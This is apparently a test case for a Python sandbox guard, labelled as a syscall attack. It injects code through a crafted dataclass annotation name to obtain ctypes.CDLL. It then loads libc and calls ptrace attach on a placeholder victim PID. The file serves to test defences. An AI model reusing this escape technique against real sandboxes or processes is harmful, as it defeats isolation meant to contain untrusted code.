# category: syscalls
# attack: ptrace the test's victim via a syscall gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "ctypes", "a": box,
    "__annotations__": {"a,self.a.append(CDLL)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
libc = box[0](None)
print(libc.ptrace(16, @TESTPID@, 0, 0))
